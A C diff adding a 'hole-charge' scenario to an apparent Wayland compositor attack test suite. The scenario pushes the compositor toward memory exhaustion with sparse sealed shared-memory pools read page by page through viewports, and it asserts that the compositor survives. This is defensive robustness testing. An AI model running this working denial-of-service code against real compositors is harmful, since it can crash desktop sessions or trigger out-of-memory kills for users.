@@ -16,6 +16,7 @@
 #include <unistd.h>
 
 #define ATT_CATEGORY ATT_CAT_RESOURCES
+#include "attack-viewporter-client-protocol.h"
 #include "scenario.h"
 
 /* --- volume ------------------------------------------------------------------------------- */
@@ -252,6 +253,155 @@ ATT_SCENARIO(run_many_clients_mappings, "many-clients-mappings",
 out:
 	for (int i = 0; i < c && i < MAPPING_CONNECTIONS; i++)
 		att_disconnect(&heavy[i]);
+}
+
+/*
+ * Memory the compositor is charged for. Every page of a pool that the
+ * compositor reads is in its RSS, and a hole it reads is a page its own
+ * fault allocates (charged to its memory cgroup). Sparse sealed pools cost
+ * the attacker nothing, and a viewport that squeezes a tall, wide buffer
+ * into 256x192 makes every frame sample two rows of 32 pages for each
+ * row shown: 48 MiB of new pages a frame, the source moved by two rows
+ * each frame until every row was sampled. Connections of one pool each
+ * (so a refusal loses nothing already charged), the size halved after a
+ * refusal, never below CHARGE_MIN (a heavy client: the light clients'
+ * reserve stays free). The aim is more than the machine can give
+ * (5/4 of MemAvailable, at most CHARGE_MAX, so that a host with much
+ * memory is not pushed into its own OOM by the compositors without a
+ * budget in the attack matrix). A compositor that maps what it cannot
+ * afford is the OOM killer's first pick: it holds every page in its RSS.
+ * After it, a well-behaved connection must get a pool and a frame
+ * (asserted).
+ */
+#define CHARGE_CONNECTIONS 64
+#define CHARGE_W 32000			/* pixman samples below 32768 */
+#define CHARGE_STRIDE (32 << 12)	/* 32 pages a row */
+#define CHARGE_DST_W 256
+#define CHARGE_DST_H 192
+#define CHARGE_MIN (32 << 20)
+#define CHARGE_MAX (1ull << 30)
+#define CHARGE_SECONDS 120
+
+/* A "Key: N kB" line of /proc/PID/status or /proc/meminfo, in bytes;
+ * -1 when it cannot be read. */
+static long long proc_kb(const char *path, const char *key)
+{
+	char line[128];
+	size_t n = strlen(key);
+	long long kib = -1;
+	FILE *f = fopen(path, "re");
+
+	if (!f)
+		return -1;
+	while (fgets(line, sizeof(line), f))
+		if (!strncmp(line, key, n) && line[n] == ':') {
+			kib = strtoll(line + n + 1, NULL, 10);
+			break;
+		}
+	fclose(f);
+	return kib < 0 ? -1 : kib << 10;
+}
+
+static long long compositor_shmem(struct attack *a)
+{
+	char path[64];
+
+	if (!a->compositor_pid)
+		return -1;
+	snprintf(path, sizeof(path), "/proc/%d/status", (int)a->compositor_pid);
+	return proc_kb(path, "RssShmem");
+}
+
+/* Samples every row of @buf (@rows tall) through @vp, a few rows a frame,
+ * until the compositor holds @goal bytes or time is up. Returns the frames
+ * shown, -1 when the connection failed. */
+static int charge_walk(struct attack *x, struct wp_viewport *vp,
+		       struct wl_buffer *buf, int32_t rows, long long goal,
+		       int64_t deadline)
+{
+	int32_t step = rows / CHARGE_DST_H, frames = 0;
+
+	for (int32_t y0 = 0; y0 < (step > 1 ? step : 1); y0 += 2) {
+		wp_viewport_set_source(vp, 0, wl_fixed_from_int(y0),
+				       wl_fixed_from_int(CHARGE_W),
+				       wl_fixed_from_int(rows - (step > 1 ? step : 0)));
+		if (att_present(x, buf, CHARGE_W, rows) != 0)
+			return -1;
+		frames++;
+		if (compositor_shmem(x) >= goal || att_now_ms() > deadline)
+			break;
+	}
+	return frames;
+}
+
+ATT_SCENARIO(run_hole_charge, "hole-charge",
+	     "sparse sealed pools, one per connection, each read page by page through a viewport until the compositor holds more memory than the machine has available: the pool memory budget stops it, and a well-behaved connection still gets a pool and a frame (asserted)",
+	     SURVIVES)
+{
+	static struct attack conns[CHARGE_CONNECTIONS];
+	long long avail = proc_kb("/proc/meminfo", "MemAvailable");
+	long long base = compositor_shmem(a), goal, held = 0;
+	int64_t deadline = att_now_ms() + CHARGE_SECONDS * 1000;
+	size_t size = (size_t)INT32_MAX / CHARGE_STRIDE * CHARGE_STRIDE;
+	int c, frames = 0, pools = 0, refused = 0;
+
+	if (avail < 0)
+		avail = (long long)CHARGE_MAX;
+	goal = avail / 4 * 5 < (long long)CHARGE_MAX ? avail / 4 * 5 :
+						      (long long)CHARGE_MAX;
+	raise_nofile();
+	for (c = 0; c < CHARGE_CONNECTIONS && size >= CHARGE_MIN; c++) {
+		struct attack *x = &conns[c];
+		int32_t rows = (int32_t)(size / CHARGE_STRIDE);
+		struct wl_shm_pool *pool;
+		struct wp_viewport *vp;
+		struct wl_buffer *buf;
+		int fd, n;
+
+		if (att_now_ms() > deadline ||
+		    (held = compositor_shmem(a) - (base > 0 ? base : 0)) >= goal)
+			break;
+		x->timeout_ms = a->timeout_ms > 30000 ? a->timeout_ms : 30000;
+		fd = att_memfd_sparse(size, MFD_ALLOW_SEALING);
+		if (fd < 0 || fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW) < 0 ||
+		    att_connect(x) != 0) {
+			att_fail_setup(o, "connection %d: setup failed (%s)", c,
+				       strerror(errno));
+			if (fd >= 0)
+				close(fd);
+			c++;
+			break;
+		}
+		pool = wl_shm_create_pool(x->shm, fd, (int32_t)size);
+		close(fd);
+		buf = wl_shm_pool_create_buffer(pool, 0, CHARGE_W, rows,
+						CHARGE_STRIDE, XRGB);
+		if (att_roundtrip(x) != 0) {
+			/* Refused (and disconnected): a smaller pool next. */
+			refused++;
+			size /= 2;
+			continue;
+		}
+		pools++;
+		if (att_window(x) != 0 || !(vp = att_viewport(x, o)))
+			break;
+		wp_viewport_set_destination(vp, CHARGE_DST_W, CHARGE_DST_H);
+		n = charge_walk(x, vp, buf, rows, goal + (base > 0 ? base : 0),
+				deadline);
+		if (n < 0)
+			break;
+		frames += n;
+	}
+	held = compositor_shmem(a);
+	if (held >= 0)
+		att_note(o, "compositor holds %lld MiB of pool pages (%lld before; aim %lld MiB, %lld MiB available)",
+			 held >> 20, base >> 20, goal >> 20, avail >> 20);
+	att_note(o, "%d pools on %d connections, %d refused, %d frames", pools,
+		 c, refused, frames);
+	if (!wl_display_get_error(a->display))
+		beside_the_heavy(a, o);
+	for (int i = 0; i < c && i < CHARGE_CONNECTIONS; i++)
+		att_disconnect(&conns[i]);
 }
 
 static int64_t mono_us(void)
